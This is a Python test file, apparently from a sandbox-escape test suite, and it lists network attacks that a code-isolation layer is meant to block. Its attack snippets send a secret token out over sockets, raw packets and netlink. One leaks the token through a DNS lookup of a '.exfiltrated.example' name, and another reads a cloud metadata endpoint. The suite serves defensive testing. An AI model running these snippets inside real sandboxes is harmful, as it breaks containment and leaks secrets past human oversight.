"""Every way on to a network."""

import contextlib
import os
import socket
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from failonce.model import Args
from tests.escape.arena import METADATA
from tests.escape.attack import Arena, Attack, Family, Ran, heard, needs_root, told

PORT = 4101

_SPEAKS = """
def attack(token):
    import socket
    with socket.socket(FAMILY) as door:
        door.connect(WHERE)
        door.send(token.encode())
"""


def ear(
    family: int, kind: int, where: tuple[str, int], protocol: int = 0
) -> Callable[[Arena], Args]:
    def bait(arena: Arena) -> Args:
        if kind != socket.SOCK_RAW or arena.root:  # nobody else could listen to raw packets either
            door = socket.socket(family, kind, protocol)
            door.bind(where)
            arena.listen(door)
        return {"token": arena.secret}

    return bait


def _speaks(name: str, family: str, where: tuple[str, int], **more: Any) -> Attack:
    numbers = [
        getattr(socket, part.strip().removeprefix("socket."), None) for part in family.split(",")
    ]
    kinds = [
        int(part) if n is None else n for n, part in zip(numbers, family.split(","), strict=True)
    ]
    listening = [k for k in kinds if k != 262]  # who speaks MPTCP is understood by TCP
    facts = {
        "bait": ear(listening[0], listening[1], where, *listening[2:]),
        "reached": heard,
        **more,
    }
    source = _SPEAKS.replace("FAMILY", family).replace("WHERE", repr(where))
    return Attack(name=name, family=Family.NETWORK, source=source, **facts)


def _echoes() -> int:
    lines = [x.split() for x in Path("/proc/net/snmp").read_text().splitlines()]
    names, values = (x for x in lines if x[0] == "Icmp:")
    return int(values[names.index("InEchos")])


def _pinged(_: Arena, __: Ran) -> str:
    return "the host was pinged" if _echoes() else ""


def listener(arena: Arena) -> Args:
    """Somebody on the host who comes by and tells what he knows."""

    def visit() -> None:
        end = time.monotonic() + 1.5
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                with socket.create_connection(("127.0.0.1", PORT), 0.2) as door:
                    door.send(arena.secret.encode())
                return
            time.sleep(0.02)

    arena.meanwhile(visit)
    return {}


def _name_server(arena: Arena) -> Args:
    door = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    door.bind(("127.0.0.1", 53))
    arena.listen(door)
    return {"token": arena.secret}


def _metadata(arena: Arena) -> Args:
    door = socket.socket()
    door.bind((METADATA, 80))
    arena.listen(door, f"HTTP/1.0 200 OK\r\nContent-Length: 25\r\n\r\n{arena.secret}".encode())
    return {"where": METADATA}


def _secret_name(arena: Arena) -> Args:
    door = socket.socket(socket.AF_UNIX)
    door.bind(f"\0{arena.secret}".encode())
    arena.listen(door)
    return {}


def _address(_: Arena, __: Ran) -> str:
    told_of = "10.77.0.1" in Path("/proc/net/fib_trie").read_text()
    return "the host has another address" if told_of else ""


def _no_vsock(_: Arena) -> str:
    """These sockets have no namespaces: a control would be heard by the real machine's host."""
    return "the machine's own, never tried bare"


def _not_built(family: int) -> Callable[[Arena], str]:
    def hindered(_: Arena) -> str:
        try:
            socket.socket(family, socket.SOCK_RAW, 0).close()
        except OSError as error:
            return f"not on this kernel: {os.strerror(error.errno or 0)}"
        return "opens, but there is nobody to hear it"

    return hindered


def _opened(_: Arena, ran: Ran) -> str:
    return f"a socket was opened: {ran.value}" if ran.value else ""


_OPENS = """
def attack():
    import socket
    return socket.socket(FAMILY, KIND, 0).fileno() + 1
"""

ATTACKS = (
    _speaks("speaks TCP to the host", "socket.AF_INET, socket.SOCK_STREAM", ("127.0.0.1", PORT)),
    _speaks("speaks UDP to the host", "socket.AF_INET, socket.SOCK_DGRAM", ("127.0.0.1", PORT)),
    _speaks("speaks TCP over IPv6", "socket.AF_INET6, socket.SOCK_STREAM", ("::1", PORT)),
    _speaks("speaks UDP over IPv6", "socket.AF_INET6, socket.SOCK_DGRAM", ("::1", PORT)),
    _speaks("speaks multipath TCP", "socket.AF_INET, socket.SOCK_STREAM, 262", ("127.0.0.1", PORT)),
    _speaks(
        "sends raw packets",
        "socket.AF_INET, socket.SOCK_RAW, 253",
        ("127.0.0.1", 0),
        hindered=needs_root,
    ),
    Attack(
        name="sends with the first packet, without connecting",
        family=Family.NETWORK,
        source=f"""
def attack(token):
    import socket
    with socket.socket() as door:
        door.sendto(token.encode(), socket.MSG_FASTOPEN, ("127.0.0.1", {PORT}))
""",
        bait=ear(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT)),
        reached=heard,
    ),
    Attack(
        name="pings the host",
        family=Family.NETWORK,
        source="""
def attack():
    import socket
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as door:
        door.sendto(bytes((8, 0, 0, 0, 0, 1, 0, 1)) + b"x" * 8, ("127.0.0.1", 0))
""",
        reached=_pinged,
    ),
    Attack(
        name="writes frames to the interface",
        family=Family.NETWORK,
        source=f"""
def attack(token):
    import socket, struct
    body = token.encode()
    udp = struct.pack(">4H", 4000, {PORT}, 8 + len(body), 0) + body
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                     socket.inet_aton("169.254.1.1"), socket.inet_aton("{METADATA}"))
    total = sum(struct.unpack(">10H", ip))
    total = (total & 0xFFFF) + (total >> 16)
    ip = ip[:10] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + ip[12:]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as door:
        door.bind(("lo", 0x0800))
        door.send(bytes(12) + b"\\x08\\x00" + ip + udp)
""",
        bait=ear(socket.AF_INET, socket.SOCK_DGRAM, (METADATA, PORT)),
        hindered=needs_root,
        reached=heard,
    ),
    Attack(
        name="gives the host another address",
        family=Family.NETWORK,
        source="""
def attack():
    import socket, struct
    address = socket.inet_aton("10.77.0.1")
    body = struct.pack("BBBBI", socket.AF_INET, 32, 0, 0, 1)
    body += struct.pack("HH", 8, 1) + address + struct.pack("HH", 8, 2) + address
    head = struct.pack("IHHII", 16 + len(body), 20, 0x605, 1, 0)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as door:
        door.bind((0, 0))
        door.send(head + body)
        return door.recv(4096).hex()
""",
        hindered=needs_root,
        reached=_address,
    ),
    Attack(
        name="asks the kernel who listens on the host",
        family=Family.NETWORK,
        source="""
def attack():
    import socket, struct
    body = struct.pack("BBHIIIII", socket.AF_UNIX, 0, 0, 0xFFFFFFFF, 0, 1, 0, 0)
    head = struct.pack("IHHII", 16 + len(body), 20, 0x301, 1, 0)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4) as door:
        door.send(head + body)
        return door.recv(65536).decode("latin-1")
""",
        bait=_secret_name,
        reached=told,
    ),
    Attack(
        name="reads who listens on the host",
        family=Family.NETWORK,
        source="""
def attack():
    return open("/proc/net/unix").read()
""",
        bait=_secret_name,
        reached=told,
    ),
    Attack(
        name="waits on a port for whoever comes by",
        family=Family.NETWORK,
        source=f"""
def attack():
    import socket
    with socket.socket() as door:
        door.bind(("", {PORT}))
        door.listen()
        door.settimeout(1.2)
        return door.accept()[0].recv(4096).decode()
""",
        bait=listener,
        reached=told,
    ),
    Attack(
        name="asks the name server for a telling name",
        family=Family.NETWORK,
        source="""
def attack(token):
    import socket
    try:
        socket.getaddrinfo(f"{token}.exfiltrated.example", 80)
    except OSError:
        pass
""",
        bait=_name_server,
        reached=heard,
    ),
    Attack(
        name="asks the cloud who the machine is",
        family=Family.NETWORK,
        source="""
def attack(where):
    import urllib.request
    return urllib.request.urlopen(f"http://{where}/latest/", timeout=1).read().decode()
""",
        bait=_metadata,
        reached=told,
    ),
    Attack(
        name="opens a socket to the hypervisor",
        family=Family.NETWORK,
        source=_OPENS.replace("FAMILY", "40").replace("KIND", "1"),
        hindered=_no_vsock,
        reached=_opened,
    ),
    Attack(
        name="opens a Bluetooth socket",
        family=Family.NETWORK,
        source=_OPENS.replace("FAMILY", "31").replace("KIND", "3"),
        hindered=_not_built(31),
        reached=_opened,
    ),
)
